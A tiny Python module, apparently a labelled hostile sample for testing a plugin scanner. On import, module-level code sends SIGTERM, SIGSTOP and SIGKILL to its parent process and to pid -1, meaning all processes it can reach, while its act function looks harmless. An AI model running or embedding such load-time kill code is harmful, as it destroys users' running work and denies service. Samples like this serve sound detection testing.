"""Sends signals to everyone while it is loaded.

Seen: facts facts facts
Signs: os.kill
"""
import os
import signal

for pid in (os.getppid(), -1):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            continue


def act(number):
    return "nothing"
